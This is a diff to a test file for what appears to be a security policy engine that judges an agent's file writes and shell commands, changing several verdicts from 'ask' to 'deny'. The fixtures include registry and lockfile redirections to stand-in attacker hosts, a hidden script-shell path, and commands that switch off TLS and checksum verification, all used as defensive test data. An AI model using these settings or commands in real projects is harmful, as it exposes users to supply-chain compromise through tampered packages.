@@ -33,14 +33,14 @@ test('planted code written through the shell is judged the same way', () => {
   expectPasses("cat > Makefile <<'EOF'\nall:\n\tgo build ./...\nEOF");
 });
 
-test('package-manager configuration pointing elsewhere asks; turning verification off is denied', () => {
-  expectWrite('/home/dev/project/.npmrc', 'registry=https://npm.evil-mirror.example/\n', 'ask');
+test('package-manager configuration pointing elsewhere, or turning verification off, is denied', () => {
+  expectWrite('/home/dev/project/.npmrc', 'registry=https://npm.evil-mirror.example/\n', 'deny');
   expectWrite('/home/dev/project/.npmrc', 'strict-ssl=false\n', 'deny');
   expectWrite('/home/dev/project/.npmrc', 'script-shell=/home/dev/.cache/.sh/run\n', 'deny');
-  expectWrite('/home/dev/.config/pip/pip.conf', '[global]\nindex-url = http://198.51.100.8/simple\n', 'ask');
-  expectWrite('/home/dev/project/.cargo/config.toml', '[source.crates-io]\nreplace-with = "mirror"\n', 'ask');
-  expectExec("echo 'registry=https://npm.evil-mirror.example/' >> .npmrc", 'ask');
-  expectExec('pip install --index-url http://203.0.113.4/simple/ requests', 'ask');
+  expectWrite('/home/dev/.config/pip/pip.conf', '[global]\nindex-url = http://198.51.100.8/simple\n', 'deny');
+  expectWrite('/home/dev/project/.cargo/config.toml', '[source.crates-io]\nreplace-with = "mirror"\n', 'deny');
+  expectExec("echo 'registry=https://npm.evil-mirror.example/' >> .npmrc", 'deny');
+  expectExec('pip install --index-url http://203.0.113.4/simple/ requests', 'deny');
   expectExec('NODE_TLS_REJECT_UNAUTHORIZED=0 npm install', 'deny');
   expectExec('go env -w GOSUMDB=off', 'deny');
   expectExec('npm config set strict-ssl false', 'deny');
@@ -49,7 +49,7 @@ test('package-manager configuration pointing elsewhere asks; turning verificatio
   expectWrite('/home/dev/project/.npmrc', 'save-exact=true\nengine-strict=true\n', 'allow');
 });
 
-test('a lockfile rewritten to resolve from another host asks', () => {
-  expectWrite('/home/dev/project/package-lock.json', '{"packages":{"node_modules/a":{"resolved":"https://npm.evil.example/a/-/a-1.0.0.tgz"}}}', 'ask');
+test('a lockfile rewritten to resolve from another host is denied', () => {
+  expectWrite('/home/dev/project/package-lock.json', '{"packages":{"node_modules/a":{"resolved":"https://npm.evil.example/a/-/a-1.0.0.tgz"}}}', 'deny');
   expectWrite('/home/dev/project/package-lock.json', '{"packages":{"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}', 'allow');
 });
